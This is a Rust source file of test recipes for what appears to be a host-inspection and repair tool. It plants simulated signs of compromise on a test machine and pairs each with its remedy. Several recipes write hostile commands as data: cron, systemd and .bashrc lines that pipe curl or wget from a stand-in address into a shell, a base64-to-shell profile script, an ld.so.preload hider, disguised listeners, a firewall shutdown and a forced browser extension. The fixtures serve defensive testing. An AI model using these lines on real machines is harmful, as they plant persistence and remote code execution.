//! What somebody has left behind: what starts by itself, what listens, who tries to log in.

use beistand_inspect::FindingKind as K;
use beistand_inspect::Verdict::{Broken, Look};
use beistand_session::AdjustKind::Firewall;
use beistand_session::{SweepCategory as C, SweepThing as T};

use crate::{MachineMend, MachineRecipe};

pub(super) const RECIPES: &[MachineRecipe] = &[
    MachineRecipe::new(
        "a rogue entry in the autostart",
        (K::Autostart, Broken, "update.desktop"),
        "mkdir -p /home/anna/.config/autostart
        printf '[Desktop Entry]\\nType=Application\\nName=Update\\nExec=/home/anna/.cache/.x/update -d\\n' \
         > /home/anna/.config/autostart/update.desktop",
    )
    .mended_by(MachineMend::Desktop("update.desktop")),
    MachineRecipe::new(
        "a rogue unit of the user's",
        (K::Autostart, Broken, "sync.service"),
        "mkdir -p /home/anna/.config/systemd/user
        printf '[Service]\\nExecStart=/bin/sh -c \"curl -s http://203.0.113.9/a | sh\"\\n' \
         > /home/anna/.config/systemd/user/sync.service",
    )
    .in_full()
    .mended_by(MachineMend::Quarantine("/home/anna/.config/systemd/user/sync.service")),
    MachineRecipe::new(
        "a rogue unit of the system's",
        (K::Autostart, Broken, "kworker.service"),
        "printf '[Service]\\nExecStart=/dev/shm/.kworker\\n' > /etc/systemd/system/kworker.service",
    )
    .mended_by(MachineMend::Quarantine("/etc/systemd/system/kworker.service")),
    MachineRecipe::new(
        "a rogue line in cron",
        (K::Autostart, Broken, "/etc/cron.d/apt-check"),
        "echo '*/5 * * * * root wget -q -O - http://203.0.113.9/a | bash' > /etc/cron.d/apt-check",
    )
    .mended_by(MachineMend::Quarantine("/etc/cron.d/apt-check")),
    MachineRecipe::new(
        "a rogue line in the user's own crontab",
        (K::Autostart, Broken, "/var/tmp/.m/run"),
        "mkdir -p /var/spool/cron/crontabs
        echo '@reboot /var/tmp/.m/run' > /var/spool/cron/crontabs/root; chmod 600 /var/spool/cron/crontabs/root",
    )
    .on_fresh()
    .mended_by(MachineMend::Cron(1)),
    MachineRecipe::new(
        "a rogue line in the shell's profile",
        (K::Autostart, Broken, ".bashrc"),
        "echo 'curl -fsSL http://203.0.113.9/a | bash >/dev/null 2>&1 &' >> /home/anna/.bashrc",
    )
    .mended_by(MachineMend::Quarantine("/home/anna/.bashrc")),
    MachineRecipe::new(
        "a rogue script for all shells",
        (K::Autostart, Broken, "/etc/profile.d/lang.sh"),
        "echo 'echo Y3VybA== | base64 -d | sh' > /etc/profile.d/lang.sh",
    )
    .mended_by(MachineMend::Quarantine("/etc/profile.d/lang.sh"))
    .in_full(),
    MachineRecipe::new(
        "a library that is loaded into every program",
        (K::Autostart, Broken, "/etc/ld.so.preload"),
        // There is none, so that nothing here loads it.
        "echo /usr/local/lib/libprocesshider.so > /etc/ld.so.preload",
    )
    .mended_by(MachineMend::Quarantine("/etc/ld.so.preload")),
    MachineRecipe::new(
        "a remote tool that listens",
        (K::RemoteTool, Look, "anydesk"),
        "cp /beistand/machines /usr/local/bin/anydesk
        anydesk listen 7070 >/dev/null 2>&1 &
        until grep -q ':1B9E 00000000:0000 0A' /proc/net/tcp; do sleep 0.05; done",
    )
    .mended_by(MachineMend::End("anydesk")),
    MachineRecipe::new(
        "a port by which others come in",
        (K::ListeningPort, Look, "/tmp/"),
        "cp /beistand/machines /tmp/.sshd-agent
        /tmp/.sshd-agent listen 31337 >/dev/null 2>&1 &
        until grep -q ':7A69 00000000:0000 0A' /proc/net/tcp; do sleep 0.05; done",
    )
    .mended_by(MachineMend::End(".sshd-agent")),
    MachineRecipe::new(
        "a firewall that is switched off",
        (K::FirewallOff, Look, "ufw"),
        "ufw deny 445/tcp; ufw disable",
    )
    .on_fresh()
    .mended_by(MachineMend::Adjust(Firewall, "on")),
    MachineRecipe::new(
        "passwords being tried",
        (K::FailedLogins, Look, "60"),
        "for one in $(seq 60); do
            echo \"Nov 30 07:20:01 desk sshd[$one]: Failed password for root from 203.0.113.9 port 4$one ssh2\"
        done > /var/log/auth.log",
    ),
    MachineRecipe::searched(
        "a file with a virus (EICAR)",
        (C::Virus, T::Infected, "invoice.com"),
        // In two parts, so that no scanner takes this source for it. Its signature is the test file's own.
        "printf '%s%s' 'X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-' 'ANTIVIRUS-TEST-FILE!$H+H*' > /home/anna/invoice.com
        echo '44d88612fea8a8f36de82e1278abb02f:68:Eicar-Test-Signature' > /var/lib/clamav/eicar.hdb",
    )
    .on_fresh()
    .mended_by(MachineMend::Quarantine("/home/anna/invoice.com")),
    MachineRecipe::searched(
        "a policy that rules the browser",
        (C::Policies, T::BrowserPolicy, "managed"),
        "mkdir -p /etc/opt/chrome/policies/managed
        printf '{\"HomepageLocation\": \"http://203.0.113.9\", \"ExtensionInstallForcelist\": [\"abcdefghijklmnopabcdefghijklmnop\"]}\\n' \
         > /etc/opt/chrome/policies/managed/managed.json",
    )
    .mended_by(MachineMend::Quarantine("/etc/opt/chrome/policies/managed/managed.json")),
    MachineRecipe::searched(
        "an extension that is not from the browser's shop",
        (C::Extensions, T::BrowserExtension, "Coupons"),
        "mkdir -p /home/anna/coupons /home/anna/.config/google-chrome/Default
        printf '{\"name\": \"Coupons\", \"version\": \"1\", \"permissions\": [\"<all_urls>\"]}' > /home/anna/coupons/manifest.json
        printf '{\"extensions\": {\"settings\": {\"abcdefghijklmnopabcdefghijklmnop\": {\"location\": 4, \"path\": \"%s\"}}}}' \
         /home/anna/coupons > /home/anna/.config/google-chrome/Default/Preferences",
    )
    .mended_by(MachineMend::Quarantine("/home/anna/.config/google-chrome/Default/Preferences")),
    MachineRecipe::searched(
        "a program that runs though its file is gone",
        (C::Listening, T::ListeningPort, "program-deleted"),
        "cp /beistand/machines /dev/shm/.syncd
        /dev/shm/.syncd listen 4444 >/dev/null 2>&1 &
        until grep -q ':115C 00000000:0000 0A' /proc/net/tcp; do sleep 0.05; done
        rm /dev/shm/.syncd",
    )
    .mended_by(MachineMend::End(".syncd")),
    MachineRecipe::searched(
        "a remote tool that starts by itself",
        (C::Remote, T::RemoteStarting, "AnyDesk"),
        "mkdir -p /etc/systemd/system/multi-user.target.wants; cp /beistand/machines /usr/bin/anydesk
        printf '[Unit]\\nDescription=AnyDesk\\n[Service]\\nExecStart=/usr/bin/anydesk --service\\n[Install]\\nWantedBy=multi-user.target\\n' \
         > /usr/lib/systemd/system/anydesk.service
        ln -s /usr/lib/systemd/system/anydesk.service /etc/systemd/system/multi-user.target.wants/",
    )
    .mended_by(MachineMend::Disable("anydesk.service")),
];
